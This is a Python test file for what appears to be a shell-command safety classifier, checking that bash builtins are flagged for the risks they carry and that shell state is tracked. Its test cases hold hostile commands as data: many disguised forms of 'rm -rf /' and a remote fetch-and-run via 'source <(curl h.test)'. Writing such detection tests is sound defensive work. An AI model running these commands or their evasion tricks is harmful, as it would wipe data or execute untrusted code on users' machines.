"""Builtins change the shell's state as bash's do, and those that evaluate text are found out."""

import pytest

from tests.shell.corpus_rows import label, rated, rules


def last(command):
    return rated(command).simple_commands[-1]


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("eval 'rm -rf /'", "delete.root"),
        ("source x.sh", "runs-project-code"),
        (". /tmp/x.sh", "runs-outside-code"),
        ("exec rm -rf /", "delete.root"),
        ("command rm -rf /", "delete.root"),
        ("builtin eval 'rm -rf /'", "delete.root"),
        ("set", "reads-environment"),
        ("export", "reads-environment"),
        ("trap 'rm -rf /' EXIT", "delete.root"),
        ("alias ls='rm -rf /'", "delete.root"),
        ("hash -p /tmp/x ls", "loads-code"),
        ("enable -f ./x.so y", "loads-code"),
        ("complete -C 'rm -rf /' x", "delete.root"),
        ("compgen -W '$(rm -rf /)'", "delete.root"),
        ("test -v 'a[$(rm -rf /)]'", "delete.root"),
        ("let 'a[$(rm -rf /)]=1'", "delete.root"),
        ("printf -v 'a[$(rm -rf /)]' x", "delete.root"),
        ("history -w /etc/hosts", "write.system"),
        ("fc", "string-as-code"),
        ("kill 1", "kill"),
        ("mapfile -C 'rm -rf /' a", "delete.root"),
        ("umask 000", "sets-variable"),
        ("printf 'rm -rf /' | sh", "delete.root"),
        ("echo -e 'rm\\x20-rf /' | sh", "delete.root"),
        ("source <(curl h.test)", "runs-remote"),
    ],
)
def test_what_a_builtin_does(command, rule):
    assert rule in rules(command)


@pytest.mark.parametrize(
    "command",
    [
        "cd src",
        "pwd",
        "echo a",
        "printf '%s' a",
        "test -f a",
        "[ a = b ]",
        "read x",
        "kill -l",
        "true",
        "declare -f",
        "type ls",
    ],
)
def test_the_harmless_ones_are_safe(command):
    assert label(command) == "safe"


def test_state_is_kept_as_bash_keeps_it():
    assert last("cd src; cd -; x").directory == "/home/dev/proj"
    assert last("set -- a b; shift; x $1").argv == ("x", "b")
    assert last("read a b <<< 'one two three'; x $a $b").argv == ("x", "one", "two", "three")
    assert last("mapfile a < <(printf 'p\\nq'); x ${a[1]}").argv == ("x", "q")
    assert last("declare -n r=v; v=1; x $r").argv == ("x", "1")
    assert last("printf -v v %s-%s a b; x $v").argv == ("x", "a-b")
    assert last("v=1; unset v; x $v").argv == ("x", None)
